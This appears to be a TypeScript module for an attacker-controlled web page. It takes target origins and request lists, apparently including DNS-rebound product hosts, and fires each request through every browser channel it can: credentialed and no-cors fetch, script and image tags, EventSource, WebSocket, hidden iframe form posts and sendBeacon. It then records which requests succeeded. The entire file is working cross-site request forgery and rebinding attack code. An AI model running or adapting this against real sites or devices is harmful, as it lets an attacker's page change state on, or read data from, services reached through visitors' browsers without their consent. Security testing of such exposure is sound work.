/** A request that reads or changes what no page of another origin may reach. */
export interface HostileRequest {
  readonly method: string
  /** Path and query, behind the origin that is attacked; or a whole address. */
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

export interface Target {
  /** Absent for the page's own, which is the product's where its name was rebound. */
  readonly origin?: string
  readonly requests: readonly HostileRequest[]
}

export interface Outcome {
  readonly attempts: number
  /** What could be read, or was answered with success. */
  readonly succeeded: readonly string[]
}

/** Runs in the attacker's page, by itself: tries each request in every way in which a page can send it. */
export async function attack(targets: readonly Target[]): Promise<Outcome> {
  const withinMs = 30_000
  const succeeded: string[] = []
  let attempts = 0
  for (const { origin = location.origin, requests } of targets)
    await Promise.all(requests.flatMap((request) => waysToSend(request, new URL(request.path, origin).href)))
  return { attempts, succeeded }

  function waysToSend({ method, headers = {}, body }: HostileRequest, url: string) {
    const sent = { method, body: body ?? null, credentials: 'include' } as const
    const fetched = (more: RequestInit) => async () => (await fetch(url, { ...sent, ...more })).ok
    const ways: Record<string, () => Promise<boolean>> = {
      fetch: fetched({ headers }),
      anonymous: fetched({ headers, credentials: 'omit' }),
    }
    if (method === 'GET' || method === 'POST') ways['no-cors'] = fetched({ mode: 'no-cors' })
    if (method === 'GET') Object.assign(ways, waysToGet(url))
    if (method === 'POST') Object.assign(ways, waysToPost(url, body ?? ''))
    return Object.entries(ways).map(([way, send]) => attempt(`${way} ${method} ${url}`, send))
  }

  function waysToGet(url: string) {
    return {
      script: () => loaded(Object.assign(document.createElement('script'), { src: url })),
      image: () => loaded(Object.assign(new Image(), { src: url })),
      events: () => opened(new EventSource(url, { withCredentials: true })),
      socket: () => opened(new WebSocket(url.replace('http', 'ws'))),
    }
  }

  /** What is answered cannot be read; whether it was done, what is stored shows. */
  function waysToPost(url: string, body: string) {
    return {
      form: () => submitted(url, 'application/x-www-form-urlencoded', body),
      multipart: () => submitted(url, 'multipart/form-data', body),
      text: () => submitted(url, 'text/plain', body),
      beacon: async () => navigator.sendBeacon(url, body) && false,
    }
  }

  async function attempt(what: string, send: () => Promise<boolean>): Promise<void> {
    attempts++
    const late = new Promise<boolean>((resolve) => setTimeout(resolve, withinMs, false))
    if (await Promise.race([send().catch(() => false), late])) succeeded.push(what)
  }

  async function loaded(element: HTMLElement): Promise<boolean> {
    document.body.append(element)
    return settled(element, 'load')
  }

  async function opened(connection: EventSource | WebSocket): Promise<boolean> {
    const opens = await settled(connection, 'open')
    connection.close()
    return opens
  }

  function pause(ms: number) {
    return new Promise((resolve) => setTimeout(resolve, ms))
  }

  function settled(by: EventTarget, success: string): Promise<boolean> {
    return new Promise((resolve) => {
      by.addEventListener(success, () => resolve(true), { once: true })
      by.addEventListener('error', () => resolve(false), { once: true })
    })
  }

  async function submitted(url: string, enctype: string, body: string): Promise<boolean> {
    const name = `answer-${attempts}`
    const frame = Object.assign(document.createElement('iframe'), { name })
    const target = { action: url, target: name }
    const form = Object.assign(document.createElement('form'), { method: 'post', enctype, ...target })
    for (const [field, value] of new URLSearchParams(body))
      form.append(Object.assign(document.createElement('input'), { name: field, value }))
    document.body.append(frame, form)
    // The empty frame's own load comes first.
    await pause(20)
    // What the browser takes for a download never loads.
    form.submit()
    await Promise.race([settled(frame, 'load'), pause(1000)])
    frame.remove()
    form.remove()
    return false
  }
}
